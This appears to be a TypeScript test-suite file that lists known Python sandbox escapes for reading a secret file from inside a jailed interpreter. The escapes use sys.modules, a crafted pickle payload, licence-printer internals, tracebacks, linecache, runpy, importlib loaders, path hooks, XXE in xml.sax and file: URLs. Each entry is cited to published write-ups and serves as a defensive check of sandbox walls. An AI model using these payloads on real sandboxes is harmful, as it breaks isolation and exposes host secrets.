/** Holes of sandboxes within the language: modules that look harmless and read files. */
import { onWalls } from './attack.ts';
import type { Attack } from './attack.ts';
import { INTERPRETERS, jailbreak } from './jailbreak.ts';

function byModule(title: string, known: string, code: string): Attack[] {
  return onWalls(INTERPRETERS, { title, known, code, oracle: { kind: 'secret', in: 'file' } });
}

export const LANGUAGE_MODULES: readonly Attack[] = [
  ...jailbreak({
    title: 'sys.modules has all that was ever imported',
    known: "pysandbox's TODO: clear sys.modules?",
    given: 'sys=__import__("sys")',
    jailed: `
found = sys.modules["io"].open(path).read()
`,
  }),
  ...jailbreak({
    title: 'a pickle calls what it names',
    known: 'Slaviero, Sour Pickles (2011); pickle, in the list of modules no sandbox can allow',
    given: 'loads=lambda data: __import__("pickle").loads(data), line=chr(10)',
    jailed: `
found = loads(("cio|open|(V" + path + "|tR.").replace("|", line).encode()).read()
`,
  }),
  ...jailbreak({
    title: 'the printer of the licence prints any file',
    known: 'PyJail write-ups: license._Printer__filenames; pysandbox removed the objects of site',
    given: 'printer=__import__("_sitebuiltins")._Printer("license", "", [], [])',
    jailed: `
printer._Printer__filenames = [path]
printer._Printer__setup()
found = printer._Printer__lines
`,
  }),
  ...byModule(
    'a traceback shows a line of the file that its code claims to be from',
    'pysandbox: the traceback reads a file outside of the sandbox (LWN, "The failure of pysandbox", 2013)',
    `
import traceback
try:
    exec(compile("1 / 0", secret_path, "exec"))
except ZeroDivisionError:
    print(traceback.format_exc())`,
  ),
  ...byModule(
    'an uncaught error shows a line of the file that its code claims to be from',
    'LWN, "The failure of pysandbox" (2013): the interpreter itself reads the file',
    `exec(compile("1 / 0", secret_path, "exec"))`,
  ),
  ...byModule(
    'linecache reads any file for a debugger',
    'linecache, which pysandbox had to know for tracebacks',
    `import linecache
linecache.getlines(secret_path)`,
  ),
  ...byModule(
    'codecs opens files past the builtin open',
    'pysandbox: codecs is a feature of its own, for codecs.open',
    `import codecs
codecs.open(secret_path).read()`,
  ),
  ...byModule(
    'runpy runs a file and returns its names',
    'PyJail write-ups: runpy.run_path',
    `import runpy
runpy.run_path(secret_path)["canary"]`,
  ),
  ...byModule(
    'a loader of sources imports a file from anywhere',
    'importlib.machinery.SourceFileLoader, in PyJail write-ups',
    `import importlib.util
spec = importlib.util.spec_from_file_location("canary", secret_path)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
module.canary`,
  ),
  ...byModule(
    'a folder put on sys.path makes its files modules',
    'sys.path in pysandbox: whitelist for sys.path?',
    `import sys
sys.path.insert(0, secret_folder)
import canary
canary.canary`,
  ),
  ...byModule(
    'a finder that has cached its folders is asked for another',
    'sys.path_hooks and FileFinder, PEP 302',
    `import sys
for hook in sys.path_hooks:
    try:
        spec = hook(secret_folder).find_spec("canary")
    except ImportError:
        continue
spec.loader.get_data(secret_path)`,
  ),
  ...byModule(
    'an entity of XML is a file of the host',
    'XXE: external entities in xml.sax (bugs.python.org, issue 17239)',
    `
import io, xml.sax, xml.sax.handler
seen = []
class Keeper(xml.sax.handler.ContentHandler):
    def characters(self, content):
        seen.append(content)
parser = xml.sax.make_parser()
parser.setFeature(xml.sax.handler.feature_external_ges, True)
parser.setContentHandler(Keeper())
parser.parse(io.BytesIO(f'<!DOCTYPE a [<!ENTITY e SYSTEM "{secret_path}">]><a>&e;</a>'.encode()))
"".join(seen)`,
  ),
  ...byModule(
    'urllib opens a URL that is a file',
    'urllib and file: URLs (CVE-2019-9948, local_file:)',
    `import urllib.request
urllib.request.urlopen("file://" + secret_path).read()`,
  ),
  ...byModule(
    'the complaint of a parser quotes the file that it was given',
    'configparser errors quote the line they stumble over',
    `import configparser
try:
    configparser.ConfigParser().read_file(open(secret_path))
except configparser.Error as error:
    print(error)`,
  ),
  ...byModule(
    'fileinput and tokenize open what the arguments name',
    'PyJail write-ups: fileinput.input, tokenize.open',
    `import sys, fileinput, tokenize
sys.argv = ["x", secret_path]
print(list(fileinput.input()))
tokenize.open(secret_path).read()`,
  ),
];
